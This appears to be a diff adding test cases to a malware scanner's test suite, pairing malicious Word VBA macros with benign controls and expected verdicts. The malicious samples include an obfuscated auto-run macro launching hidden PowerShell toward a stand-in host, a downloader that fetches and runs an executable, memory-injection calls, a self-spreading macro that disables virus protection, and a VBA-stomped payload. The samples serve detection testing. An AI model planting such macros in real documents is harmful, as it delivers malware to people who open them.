@@ -70,6 +70,180 @@ def office_macro_control():
         verdict="clean", action="allow", only=[])
 
 
+@case
+def office_macro_dropper():
+    """Opened, it runs a command whose name is put together."""
+    document = office.word({"ThisDocument": '''
+Sub Document_Open()
+    Dim c As String
+    c = "po" & "wer" & Chr(115) & "hell -w hid" & "den "
+    c = c & StrReverse("/elpmaxe.tsoh//:ptth")
+    CreateObject(StrReverse("llehS.tpircSW")).Run c, 0
+End Sub'''})
+    return with_file("invoice.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN",
+                 "OFFICE_MACRO_EXECUTES", "OFFICE_MACRO_COMMANDS",
+                 "OFFICE_MACRO_HIDES", "OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_macro_dropper_control():
+    """Joins texts, opens a page and has a table of what to show: daily
+    work."""
+    document = office.word({"ThisDocument": '''
+Sub Document_Open()
+    Dim s As String
+    s = "Dear " & Chr(34) & ActiveDocument.Variables("name") & Chr(34)
+    s = s & "," & vbCrLf & "please press F9 to " & "update the shell price"
+    ' powershell -w hidden is what others do
+    StatusBar = s
+End Sub
+
+Private Sub CommandButton1_Click()
+    ActiveDocument.FollowHyperlink "https://intranet.example.org/forms"
+End Sub'''})
+    return with_file("letter.doc", document), dict(
+        verdict="clean", action="allow",
+        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])
+
+
+@case
+def office_macro_downloads():
+    """Fetches a file, writes it and runs it, all in plain words."""
+    document = office.word({"ThisDocument": "Sub AutoOpen()\n    Update\n"
+                            "End Sub", "Module1": '''
+Private Declare PtrSafe Function Fetch Lib "urlmon" _
+    Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal b As String, _
+    ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
+Sub Update()
+    Dim s As Object
+    Fetch 0, "http://host.example/a.bin", Environ("TEMP") & "\\a.bin", 0, 0
+    Set s = CreateObject("ADODB.Stream")
+    s.SaveToFile Environ("TEMP") & "\\a.exe", 2
+    Shell Environ("TEMP") & "\\a.exe", vbHide
+End Sub'''})
+    return with_file("invoice.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_MACRO_DOWNLOADS", "OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_macro_rates():
+    """A button fetches today's rates and opens the folder: no reason to
+    worry."""
+    document = office.word({"Module1": '''
+Sub Rates_Click()
+    With CreateObject("MSXML2.XMLHTTP")
+        .Open "GET", "https://rates.example.org/today.csv", False
+        .send
+        ActiveDocument.Tables(1).Cell(1, 1).Range.Text = .responseText
+    End With
+    Shell "explorer.exe C:\\Reports", vbNormalFocus
+End Sub'''})
+    return with_file("rates.doc", document), dict(
+        verdict="clean", action="allow",
+        only=["OFFICE_MACRO", "OFFICE_MACRO_DOWNLOADS",
+              "OFFICE_MACRO_EXECUTES"])
+
+
+@case
+def office_macro_starts_program():
+    document = office.word({"ThisDocument": '''
+Private Sub Document_Open()
+    Shell ActiveDocument.Path & "\\viewer.exe", 1
+End Sub'''})
+    return with_file("manual.doc", document), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_MACRO_STARTS_PROGRAM"],
+        absent=["OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_macro_injects():
+    document = office.word({"Module1": '''
+Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a _
+    As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
+Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a _
+    As LongPtr, ByVal b As Long, ByVal c As LongPtr, d As Long) As LongPtr
+Sub Go()
+    CreateThread 0, 0, VirtualAlloc(0, 4096, 4096, 64), 0
+End Sub'''})
+    return with_file("table.doc", document), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_MACRO_INJECTS"])
+
+
+@case
+def office_macro_injects_control():
+    """Copying memory is an old trick for speed."""
+    document = office.word({"Module1": '''
+Private Declare Sub CopyMemory Lib "kernel32" Alias "RtlMoveMemory" _
+    (a As Any, b As Any, ByVal c As Long)
+Sub Swap()
+    CopyMemory first, second, 4
+End Sub'''})
+    return with_file("table.doc", document), dict(
+        verdict="clean", action="allow", only=["OFFICE_MACRO"])
+
+
+@case
+def office_macro_spreads():
+    """What macro viruses did."""
+    document = office.word({"ThisDocument": '''
+Sub AutoClose()
+    Options.VirusProtection = False
+    Application.OrganizerCopy ActiveDocument.FullName, _
+        NormalTemplate.FullName, "ThisDocument", 3
+End Sub'''})
+    return with_file("letter.doc", document), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_MACRO_SPREADS"])
+
+
+@case
+def office_stomped():
+    """Its source is a greeting; the compiled code has another text."""
+    text = b"cmd.exe /c start http://host.example/x"
+    cache = bytes(40) + b"\xb9\0" + len(text).to_bytes(2, "little") + text \
+        + bytes(30)
+    document = office.word({"ThisDocument": "Sub Document_Open()\n"
+                            "MsgBox \"Welcome\"\nEnd Sub"}, cache=cache,
+                           names=b"\0\x05Shell\x0dDocument_Open\0")
+    return with_file("letter.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_STOMPED", "OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_stomped_control():
+    """Compiled code with the same text as its source."""
+    text = b"Welcome to the form"
+    cache = bytes(40) + b"\xb9\0" + len(text).to_bytes(2, "little") + text \
+        + bytes(30)
+    document = office.word({"ThisDocument": "Sub Document_Open()\n"
+                            "MsgBox \"Welcome to the form\"\nEnd Sub"},
+                           cache=cache)
+    return with_file("letter.doc", document), dict(
+        verdict="clean", action="allow",
+        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])
+
+
+@case
+def office_macro_lost():
+    """The list of modules is damaged, and the source is where it does not
+    belong: found all the same."""
+    storage = office.vba_project({"ThisDocument": '''
+Sub AutoOpen()
+    Shell "powershell -nop -w hidden -c calc"
+End Sub'''}, cache=bytes(333))
+    storage["VBA"]["dir"] = b"\1\x02\xb0rubbish"
+    document = office.word(extra={"Macros": storage})
+    return with_file("letter.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_MACRO_DROPPER"])
+
+
 def write(name):
     message, expect = CASES[name]()
     folder = HERE / name
